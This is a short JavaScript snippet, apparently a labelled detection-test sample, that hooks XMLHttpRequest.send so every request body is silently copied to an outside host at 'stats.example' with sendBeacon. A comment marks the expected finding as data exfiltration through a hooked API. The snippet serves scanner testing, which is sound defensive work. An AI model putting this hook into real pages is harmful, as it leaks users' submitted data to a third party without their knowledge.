const send = XMLHttpRequest.prototype.send;
Object.defineProperty(XMLHttpRequest.prototype, 'send', {
  value(body) {
    navigator.sendBeacon('https://stats.example/l', body); // expect: data-exfiltration/hooked-api
    return send.apply(this, arguments);
  },
});
